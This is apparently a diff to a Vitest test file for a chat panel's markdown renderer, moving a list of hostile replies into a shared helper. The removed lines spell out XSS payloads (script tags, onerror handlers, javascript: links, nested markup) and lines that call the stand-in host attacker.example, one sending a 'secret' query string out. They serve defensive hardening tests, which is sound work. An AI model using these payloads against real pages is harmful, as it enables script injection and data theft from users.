@@ -6,6 +6,7 @@ import { act, cleanup, fireEvent, screen } from '@testing-library/preact'
 import { afterEach, describe, expect, it, vi } from 'vitest'
 import { needsRichMarkdown } from '../../src/panel/render/needs-rich'
 import { deferred, flush } from '../helpers/deferred'
+import { HOSTILE_REPLIES } from '../helpers/hostile-replies'
 import { RICH_REPLY } from '../helpers/rich-reply'
 import { sendFromComposer } from '../helpers/panel-steps'
 import { cleanupWidgets, loadPanelChunk, renderApp } from '../helpers/widget'
@@ -55,25 +56,7 @@ describe('needsRichMarkdown', () => {
   it.each(simple)('%j stays on the simple renderer', (text) => expect(needsRichMarkdown(text)).toBe(false))
   it.each(rich)('%j needs the rich renderer', (text) => expect(needsRichMarkdown(text)).toBe(true))
   // e2e/hardening.spec.ts counts every request while these render: none may load the markdown chunk.
-  const HARDENING = [
-    '<script>window.__pwned = 1</script>',
-    '<img src=x onerror="window.__pwned = 2">',
-    '<svg onload="window.__pwned = 3"><script>window.__pwned = 4</script></svg>',
-    '<iframe src="https://attacker.example/frame"></iframe>',
-    '![](https://attacker.example/?q=secret)',
-    '![logo](https://attacker.example/logo.png "title")',
-    '[click](javascript:window.__pwned=5)',
-    '[click]( JaVaScRiPt:window.__pwned=6)',
-    '[click](data:text/html,<script>alert(1)</script>)',
-    '[**bold**](vbscript:msgbox)',
-    '<a href="javascript:window.__pwned=7">x</a>',
-    '<style>@import url(https://attacker.example/x.css)</style>',
-    '<link rel=stylesheet href=https://attacker.example/y.css>',
-    '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=8">',
-    '<video src=https://attacker.example/v.mp4 autoplay></video><audio src=https://attacker.example/a.mp3 autoplay></audio>',
-    '<meta http-equiv="refresh" content="0;url=https://attacker.example/">',
-  ]
-  it.each(HARDENING)("the hardening spec's %j stays on the simple renderer", (text) => expect(needsRichMarkdown(text)).toBe(false))
+  it.each(HOSTILE_REPLIES)("the hardening spec's %j stays on the simple renderer", (text) => expect(needsRichMarkdown(text)).toBe(false))
   it('the rich reply of the copy and transcript tests needs it', () => expect(needsRichMarkdown(RICH_REPLY)).toBe(true))
 })
 
